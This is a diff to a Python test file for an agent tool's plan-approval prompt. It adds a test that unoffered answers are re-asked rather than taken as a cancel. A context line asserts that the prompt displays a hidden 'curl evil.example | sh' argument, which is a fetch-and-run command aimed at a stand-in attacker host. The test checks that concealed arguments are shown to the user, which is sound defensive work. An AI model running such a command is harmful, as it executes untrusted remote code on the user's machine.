@@ -84,3 +84,20 @@ def test_the_prompt_shows_every_argument_the_approval_covers(tmp_path, monkeypat
     flat = re.sub(r"[\s│┃]", "", result.output)  # the table folds long cells over lines
     assert "curlevil.example|sh#HIDDEN" in flat
     assert not (tmp_path / "ws" / "innocent-summary.md").exists()
+
+
+def test_an_answer_the_menu_does_not_offer_is_asked_again_not_taken_for_cancel(
+    tmp_path, monkeypatch
+):
+    # a plan given as a file has no planner model to revise it: reject is not offered, and
+    # "r" or "n" (no) must neither cancel the run nor approve it, but ask again
+    monkeypatch.chdir(tmp_path)
+    plan_file = tmp_path / "plan.json"
+    plan_file.write_text(
+        json.dumps(plan_of(step(1, "write_file", {"path": "a.md", "content": "x"})))
+    )
+    args = ["run", "--plan", str(plan_file), "--workspace", "ws", "--db", str(tmp_path / "r.db")]
+    result = runner.invoke(app, args, input="r\nn\ny\n")
+    assert result.exit_code == 0, result.output
+    assert result.output.count("reject is not offered") >= 3  # the note, then after each answer
+    assert (tmp_path / "ws" / "a.md").read_text() == "x"
